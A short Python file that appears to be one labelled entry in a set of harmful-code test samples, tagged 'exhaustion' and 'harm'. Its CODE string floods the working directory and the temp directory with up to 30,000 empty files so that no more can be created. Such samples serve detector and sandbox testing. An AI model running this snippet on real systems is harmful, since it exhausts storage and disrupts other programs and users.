"""Makes so many empty files that no further one can be made."""

FAMILY = "exhaustion"
HONEST = 2
PLAIN = "harm"
ALONE = True
CODE = """
import os
import tempfile

for folder in {os.getcwd(), tempfile.gettempdir()}:
    for number in range(30_000):
        try:
            open(os.path.join(folder, f"file{number}"), "wb").close()
        except OSError:
            break
"""
